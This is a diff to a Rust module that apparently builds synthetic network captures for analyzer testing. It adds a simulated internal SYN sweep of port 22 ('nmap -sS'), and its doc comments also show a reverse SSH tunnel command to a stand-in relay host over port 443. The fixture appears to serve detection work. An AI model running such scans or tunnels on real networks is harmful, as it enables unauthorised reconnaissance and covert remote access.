@@ -17,6 +17,9 @@
 //!   reordered and one retransmitted segment.
 //!
 //! The incident:
+//! - first the node probes its neighbours: a SYN sweep of port 22 over
+//!   10.10.0.20-83 (`nmap -sS -p 22 -n`), most of them refused or silent,
+//!   three answering (the scanner resets them), an internal host sweep;
 //! - ONE outbound SSH session from the node to 198.51.100.23 on port 443
 //!   (`ssh -N -R 2222:localhost:22 tunnel@vps-relay.example.net -p 443`):
 //!   real identification lines and KEXINITs, sntrup761x25519 key exchange,
@@ -96,6 +99,7 @@ pub fn demo(seed: u64) -> Capture {
     let h = Hosts::new(&mut s);
     housekeeping(&mut s, &h);
     package_mirror(&mut s, &h, &mut rng);
+    internal_sweep(&mut s, &h);
     git_fetch(&mut s, &h, &mut rng);
     storage(&mut s, &h, &mut rng);
     lookup(&mut s, &h, &mut rng, 38_871, ms(30_000), RELAY_NAME, RELAY);
@@ -171,6 +175,29 @@ fn housekeeping(s: &mut Scenario, h: &Hosts) {
         .at(ms(500))
         .rtt(us(310))
         .echo(3);
+}
+
+/// First neighbours probed by the sweep, and how many.
+pub const SWEEP_FIRST: u8 = 20;
+pub const SWEEP_HOSTS: u8 = 64;
+
+/// `nmap -sS -p 22 -n 10.10.0.20-83` from the node at 4 s, a probe every
+/// 25 ms from one source port: every 21st host has sshd (SYN-ACK, then
+/// the scanner's RST), two in three of the rest refuse (RST), the others
+/// do not answer.
+fn internal_sweep(s: &mut Scenario, h: &Hosts) {
+    for k in 0..SWEEP_HOSTS {
+        let target = s.host(&format!("10.10.0.{}", SWEEP_FIRST + k));
+        let mut t = s.tcp(h.node, 50_505, target, 22);
+        t.label("scan")
+            .at(ms(4_000 + 25 * u64::from(k)))
+            .rtt(us(200));
+        match k % 21 {
+            1 => t.handshake().close_rst(crate::analyzer::Dir::ToServer),
+            _ if k % 3 == 0 => t.syn(),
+            _ => t.syn().close_rst(crate::analyzer::Dir::ToClient),
+        };
+    }
 }
 
 /// One DNS exchange for an A record from `port` at `at`.
